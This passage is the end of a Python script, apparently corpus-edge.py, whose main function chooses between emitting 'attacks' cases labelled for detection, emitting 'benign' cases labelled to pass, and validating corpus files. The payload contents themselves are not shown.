        emit(attacks(), "detect")
    elif len(argv) >= 2 and argv[1] == "benign":
        emit(benign(), "pass")
    elif len(argv) >= 3 and argv[1] == "validate":
        return 0 if validate(argv[2:]) else 1
    else:
        sys.stderr.write("usage: corpus-edge.py attacks|benign|validate FILE...\n")
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
